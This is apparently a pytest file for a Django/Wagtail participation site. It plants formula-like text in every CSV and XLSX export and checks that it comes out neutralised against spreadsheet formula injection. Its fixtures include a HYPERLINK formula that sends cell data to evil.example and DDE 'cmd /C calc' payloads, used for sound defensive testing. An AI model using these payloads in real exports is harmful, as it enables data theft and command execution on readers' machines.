"""No CSV or spreadsheet export gives a spreadsheet program a formula to run.

Citizens, visitors and staff write text that ends up in exports: a proposal titled
`=HYPERLINK(…)`, a comment starting with "-", a display name starting with "@", a
search term. Every export is found from the code — the admin listings that export
(Wagtail's `SpreadsheetExportMixin`, reached through the URL resolver), the views
that call the project's own writer (`core.spreadsheets`), the file routes of the
public pages — and each must be in the tables below, so that a new export gets its
test by construction. Each is then downloaded, in CSV and XLSX where it offers both,
after formula-like text was planted everywhere it can come from: no cell may start
like a formula, and the planted text must come out neutralised.
"""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Site

from accounts.factories import SuperuserFactory
from budget.models import BudgetPage
from consultations import services
from consultations.factories import CommentFactory, ProposalFactory
from consultations.models import ConsultationPage, Proposal, ProposalStatus
from core.spreadsheets import looks_like_formula, spreadsheet_safe
from tests.urlconf import all_routes

from .conftest import HOST, sub

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
PROJECT_APPS = ("core", "home", "accounts", "notifications", "consultations", "budget")
PROJECT_APPS += ("search", "projects", "accountability", "demo")

TITLE = '=HYPERLINK("http://evil.example/?d="&A1;"Voir")'
BODY = "+33 6 00 00 00 00, appelez-moi"
NAME = "@zoe_du_quartier"
COMMENT = "-1 pour cette idée"
ANSWER = "=1+1"
SEARCH = "=cmd|' /C calc'!A0"
REDIRECT = '=HYPERLINK("http://evil.example")'
COMMUNE = "=Belval"
PROJECT = "@SUM(1+1)*cmd|' /C calc'!A0"
# What each planted text looks like once neutralised (search terms are lower-cased).
NEUTRALISED = {
    "title": "'" + TITLE,
    "body": "'" + BODY,
    "name": "'" + NAME,
    "comment": "'" + COMMENT,
    "answer": "'" + ANSWER,
    "search": "'" + SEARCH.lower(),
    "redirect": "'" + REDIRECT,
    "commune": "'" + COMMUNE,
    "project": "'" + PROJECT,
}


# Finding the exports in the code -------------------------------------------------------


def admin_export_views() -> dict[str, type]:
    """URL name -> view class of every admin listing that can export a spreadsheet."""
    found = {}
    for route, name, callback in all_routes():
        view_class = getattr(callback, "view_class", None)
        if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
            continue
        if route.endswith("results/"):
            continue  # the same listing, refreshed by its filters
        initkwargs = getattr(callback, "view_initkwargs", {})
        if initkwargs.get("list_export", view_class.list_export):
            found[name] = view_class
    # The questionnaires' answers: Wagtail's forms app routes them through the page.
    from consultations.models import QuestionnairePage

    page = QuestionnairePage.__new__(QuestionnairePage)  # no database at collection
    found["wagtailforms:list_submissions"] = page.get_submissions_list_view_class()
    return found


def modules_calling_the_writer() -> set[str]:
    """Project modules that write CSV or XLSX with the project's own writer."""
    calls = re.compile(r"\b(csv_response|xlsx_response|xlsx_bytes|csv_writer)\(")
    found = set()
    for app in PROJECT_APPS:
        for path in (ROOT / app).rglob("*.py"):
            if "migrations" in path.parts or path.name == "spreadsheets.py":
                continue
            if calls.search(path.read_text()):
                found.add(str(path.relative_to(ROOT)))
    return found


def modules_writing_spreadsheets_themselves() -> set[str]:
    """Project modules that would write CSV or XLSX without the writer."""
    direct = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bopenpyxl\b|\bWorkbook\(|xlsxwriter")
    found = set()
    for app in PROJECT_APPS:
        for path in (ROOT / app).rglob("*.py"):
            if direct.search(path.read_text()):
                found.add(str(path.relative_to(ROOT)))
    return found


def public_file_routes() -> set[str]:
    """Names of the participation pages' sub-routes that serve a file (name.ext)."""
    names = set()
    for page_class in (ConsultationPage, BudgetPage):
        for pattern in page_class().get_subpage_urls():
            if re.search(r"\\\.\w+", str(pattern.pattern)):
                names.add(pattern.name)
    return names


# The tables: every export, how to reach it, what planted text it must carry ----------

ADMIN_EXPORTS = {
    "participation_proposals:index": (lambda w: [], ["title", "body", "name", "commune"]),
    "participation_comments:index": (lambda w: [], ["comment", "title", "name", "commune"]),
    "wagtailforms:list_submissions": (lambda w: [w.questionnaire.pk], ["answer"]),
    "wagtailsearchpromotions:search_terms": (lambda w: [], ["search"]),
    "wagtailredirects:index": (lambda w: [], ["redirect"]),
    # Page titles, users' names and labels written by staff; checked for formulas all
    # the same (none is planted: they would need workflows and history entries).
    "wagtailadmin_reports:site_history": (lambda w: [], []),
    "wagtailadmin_reports:workflow": (lambda w: [], []),
    "wagtailadmin_reports:workflow_tasks": (lambda w: [], []),
}
OWN_EXPORTS = {
    "consultations/views.py": "the open-data CSV of a participation page (public files below)",
    "accountability/admin_views.py": "the accountability report (below)",
}
# Formats that spreadsheets open; results.json is JSON and read as such.
PUBLIC_FILES = {
    "proposals_export": (lambda w: sub(w.consultation, "proposals_export"), ["title", "body"]),
    "ballots_pb": (lambda w: sub(w.results, "ballots_pb"), ["project"]),
}
NOT_SPREADSHEETS = {
    "results_json": "JSON, not a spreadsheet",
    "poster_qr_svg": "an image of the page's address",
    "poster_qr_png": "an image of the page's address",
}
# Writes a data format of its own, which must give back exactly what it read; the
# text cells of the .pb files the site serves are guarded by budget.results.
FORMAT_WRITERS = {"budget/pabulib.py"}


def test_every_admin_export_is_in_the_table():
    assert set(admin_export_views()) == set(ADMIN_EXPORTS)


def test_every_use_of_the_writer_is_in_the_table():
    assert modules_calling_the_writer() == set(OWN_EXPORTS)


def test_nothing_writes_csv_or_xlsx_but_the_writer():
    assert modules_writing_spreadsheets_themselves() == {"core/spreadsheets.py", *FORMAT_WRITERS}


def test_every_public_file_is_in_the_table():
    assert public_file_routes() == set(PUBLIC_FILES) | set(NOT_SPREADSHEETS)


@pytest.mark.parametrize("name", sorted(admin_export_views()))
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_every_admin_export_guards_its_cells_and_headings(name, export_format):
    """The guard sits in every exporting view class, whatever its data."""
    view = admin_export_views()[name]()
    view.export_headings = {"planted": TITLE}
    assert view.preprocess_field_value("x", TITLE, export_format) == "'" + TITLE
    assert view.get_heading(Proposal.objects.none(), "planted") == "'" + TITLE
    assert view.preprocess_field_value("x", 42, export_format) == 42


# Downloading each export with formula-like text planted everywhere --------------------


@pytest.fixture
def world(scene, client):
    """The security scene, with formula-like text in every place exports read."""
    citizen = scene.citizen
    citizen.display_name = NAME
    citizen.save(update_fields=["display_name"])
    proposal = ProposalFactory(
        page=scene.consultation, author=citizen, title=TITLE, body=BODY, show_author_name=True
    )
    CommentFactory(page=scene.consultation, proposal=proposal, author=citizen, body=COMMENT)
    names = {field.label: field.clean_name for field in scene.questionnaire.form_fields.all()}
    client.force_login(citizen)
    answered = client.post(
        scene.questionnaire.url,
        {names["Venez-vous au marché ?"]: "Parfois", names["Une remarque ?"]: ANSWER},
        **HOST,
    )
    assert answered.status_code == 302
    client.logout()
    Client().get("/fr/search/", {"q": SEARCH}, **HOST)
    Redirect.objects.create(old_path="/ancienne-page", redirect_link=REDIRECT)
    Site.objects.filter(pk=scene.belval.site.pk).update(site_name=COMMUNE)
    project = Proposal.objects.filter(page=scene.results).order_by("pk").first()
    Proposal.objects.filter(pk=project.pk).update(title=PROJECT)
    staff = SuperuserFactory(email="admin@belval.localhost")
    services.change_status(
        proposal=proposal, staff=staff, status=ProposalStatus.ANSWERED, answer="Étudiée."
    )
    scene.staff = staff
    return scene


def cells(response, export_format: str) -> list:
    content = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    if export_format == "xlsx":
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        found = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", cell.value
                    found.append(cell.value)
        return found
    text = content.decode("utf-8-sig")
    delimiter = ";" if export_format == "pb" else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def assert_neutralised(found: list, expected: list[str]):
    unguarded = [cell for cell in found if looks_like_formula(cell)]
    assert unguarded == []
    for key in expected:
        assert NEUTRALISED[key] in found, (key, [c for c in found if isinstance(c, str)][:40])


def _admin_cases():
    return [
        (name, export_format) for name in sorted(ADMIN_EXPORTS) for export_format in ("csv", "xlsx")
    ]


@pytest.mark.parametrize(("name", "export_format"), _admin_cases())
def test_admin_exports_neutralise_formulas(client, world, name, export_format):
    args, expected = ADMIN_EXPORTS[name]
    client.force_login(world.staff)
    response = client.get(reverse(name, args=args(world)), {"export": export_format})
    assert response.status_code == 200
    assert_neutralised(cells(response, export_format), expected)


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_accountability_report_neutralises_formulas(client, world, export_format):
    client.force_login(world.staff)
    response = client.get(reverse("accountability_report"), {"export": export_format})
    assert response.status_code == 200
    assert_neutralised(cells(response, export_format), ["commune"])


@pytest.mark.parametrize("name", sorted(PUBLIC_FILES))
def test_public_files_neutralise_formulas(world, name):
    url, expected = PUBLIC_FILES[name]
    response = Client().get(url(world), **HOST)
    assert response.status_code == 200
    export_format = "pb" if name == "ballots_pb" else "csv"
    assert_neutralised(cells(response, export_format), expected)


@pytest.mark.parametrize(
    ("value", "guarded"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@SUM(A1)", True),
        ("\tnote", True),
        ("\r=1", True),
        ("  =1+1", True),
        ("\uff1d1+1", True),
        ("Bonjour", False),
        ("1-1", False),
        ("", False),
        ("'=1+1", False),
    ],
)
def test_the_guard(value, guarded):
    assert (spreadsheet_safe(value) != value) is guarded
    assert spreadsheet_safe(spreadsheet_safe(value)) == spreadsheet_safe(value)
    assert spreadsheet_safe(12) == 12
